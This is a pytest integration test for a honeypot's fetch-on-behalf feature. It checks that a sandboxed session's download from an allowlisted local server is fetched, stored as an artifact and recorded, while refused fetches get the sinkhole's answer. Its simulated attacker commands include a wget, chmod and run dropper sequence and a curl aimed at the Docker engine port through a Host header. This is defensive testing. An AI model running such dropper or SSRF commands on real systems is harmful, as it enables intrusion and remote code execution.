"""Fetch-on-behalf against the real engine: a sandbox's `wget` of an allowlisted server on this
machine is fetched for real by the front, stored as an artifact and runs in the sandbox; what the
policy refuses gets the sinkhole's own answer and a `network.fetch_failed` event.

The payload server listens on one of this host's own addresses (never a remote one); the
configuration allowlists exactly that address and sets `public: false`, so nothing else is fetched.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import tarfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from click.testing import CliRunner

from sandtrap.cli import cli
from sandtrap.network.image import build_sinkhole
from sandtrap.sandbox.sinknet import network_name
from tests.docker.service import (
    RunningService,
    free_subnet,
    remove_sensor_containers,
    service_config,
)

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_engine")]

SINKHOLE_IMAGE = "sandtrap/sinkhole:12"
PAYLOAD = b"#!/bin/sh\necho payload-ran-$(id -u)\n"


class _Payloads(BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.seen.append(f"{self.path} {self.headers.get('User-Agent')}")
        body = PAYLOAD if self.path == "/bins.sh" else b"not here\n"
        self.send_response(200 if self.path == "/bins.sh" else 404)
        self.send_header("Content-Type", "text/x-sh")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: Any) -> None:
        pass


def _a_host_address() -> str:
    out = subprocess.run(
        ["ip", "-4", "-o", "addr", "show", "scope", "global"],
        capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip
    found = [line.split()[3].split("/")[0] for line in out.splitlines()]
    if not found:
        pytest.skip("this host has no global IPv4 address to serve payloads on")
    return found[0]


@pytest.fixture(scope="module")
def payloads() -> Iterator[tuple[str, int]]:
    server = ThreadingHTTPServer((_a_host_address(), 0), _Payloads)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield str(server.server_address[0]), int(server.server_address[1])
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def fetching(
    tmp_path_factory: pytest.TempPathFactory, payloads: tuple[str, int]
) -> Iterator[RunningService]:
    build_sinkhole(SINKHOLE_IMAGE)
    address, _port = payloads
    config = service_config(
        tmp_path_factory.mktemp("var"),
        pool={"size": 1, "max_sandboxes": 4},
        sandbox={
            "network": "sinkhole",
            "sinkhole": {
                "image": SINKHOLE_IMAGE,
                "subnet": free_subnet(),
                "flood_report_interval_seconds": 2,
                "fetch": {"enabled": True, "public": False, "allow": [f"{address}/32"]},
            },
        },
    )
    running = RunningService(config).start()
    try:
        running.wait_warm()
        yield running
    finally:
        running.stop()
        remove_sensor_containers(config.sensor)
        subprocess.run(
            ["docker", "network", "rm", network_name(config.sensor)],
            capture_output=True, check=False,
        )  # fmt: skip


def _wait(service: RunningService, eventid: str, predicate: Any) -> dict[str, Any]:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        for event in service.events(eventid):
            if predicate(event):
                return event
        time.sleep(0.2)
    raise AssertionError(f"no matching {eventid}: {service.events(eventid)}")


def test_a_dropper_is_fetched_stored_and_runs(
    fetching: RunningService, payloads: tuple[str, int]
) -> None:
    address, port = payloads
    url = f"http://{address}:{port}/bins.sh"
    proc = fetching.ssh(
        f"cd /tmp && wget -q {url} && chmod +x bins.sh && ./bins.sh; echo wget=$?; "
        f"curl -s -o /dev/null -w 'code=%{{http_code}}\\n' http://{address}:{port}/missing"
    )
    out = proc.stdout.decode()
    assert "payload-ran-0" in out and "wget=0" in out, out
    assert "code=404" in out, out  # the server's own answer, passed on
    assert any(seen.startswith("/bins.sh Wget/") for seen in _Payloads.seen), _Payloads.seen
    download = _wait(fetching, "network.download", lambda e: e["url"] == url)
    digest = hashlib.sha256(PAYLOAD).hexdigest()
    assert (download["sha256"], download["size"], download["status"]) == (digest, len(PAYLOAD), 200)
    assert (download["dst_ip"], download["dst_port"]) == (address, port)
    assert download["session"] and download["src_ip"] == "127.0.0.1"
    assert Path(download["artifact"]).read_bytes() == PAYLOAD
    _analyst_sees_the_download(fetching, str(download["session"]), url, digest)


def _analyst_sees_the_download(
    service: RunningService, session: str, url: str, digest: str
) -> None:
    data_dir = service.config.storage.data_dir
    config = data_dir / "analyst.yaml"
    config.write_text(f"sensor: {service.config.sensor}\nstorage:\n  data_dir: {data_dir}\n")
    time.sleep(1)  # the index's writer commits in batches
    shown = CliRunner().invoke(
        cli, ["sessions", "show", "--config", str(config), session, "--json"]
    )
    assert shown.exit_code == 0, shown.output
    details = [row["detail"] for row in json.loads(shown.stdout)["network"]]
    assert any(d.startswith(f"downloaded {url} (HTTP 200") for d in details), details
    listed = CliRunner().invoke(cli, ["artifacts", "list", "--config", str(config), "--json"])
    assert listed.exit_code == 0, listed.output
    assert digest in listed.stdout, listed.stdout
    bundle = data_dir / "bundle.tar.gz"
    done = CliRunner().invoke(
        cli, ["export", "--config", str(config), session, "-o", str(bundle), "--no-engine"]
    )
    assert done.exit_code == 0, done.output
    with tarfile.open(bundle) as archive:
        names = archive.getnames()
        member = next(n for n in names if n.endswith("files.json"))
        handle = archive.extractfile(member)
        assert handle is not None
        files = json.loads(handle.read())
    assert {"path": url, "kind": "downloaded", "sha256": digest} in [
        {k: f[k] for k in ("path", "kind", "sha256")} for f in files
    ], files
    assert any(n.endswith(f"files/{digest}") for n in names), names


def test_what_the_policy_refuses_gets_the_sinkholes_answer(
    fetching: RunningService, payloads: tuple[str, int]
) -> None:
    _address, port = payloads
    before = len(_Payloads.seen)
    proc = fetching.ssh(
        # Loopback named in the Host header (the engine's port) and a documentation address (not
        # allowlisted, public: false): neither is fetched. (No names here: resolving one would
        # ask the host's resolver, and this test's traffic stays on this machine.)
        "curl -s -H 'Host: 127.0.0.1:2375' http://203.0.113.7/containers/json; echo curl=$?; "
        f"wget -q -O- http://203.0.113.7:{port}/bins.sh; echo wget=$?"
    )
    out = proc.stdout.decode()
    assert "curl=0" in out and "wget=0" in out and "nginx" in out, out
    assert "payload-ran" not in out, out  # the sinkhole's own script, not the payload
    assert len(_Payloads.seen) == before
    loopback = _wait(
        fetching, "network.fetch_failed", lambda e: e["url"].startswith("http://127.0.0.1:2375/")
    )
    assert "loopback" in loopback["reason"] and loopback["session"], loopback
    documentation = _wait(
        fetching, "network.fetch_failed", lambda e: e["url"].startswith("http://203.0.113.7:")
    )
    assert "203.0.113.7" in documentation["reason"], documentation
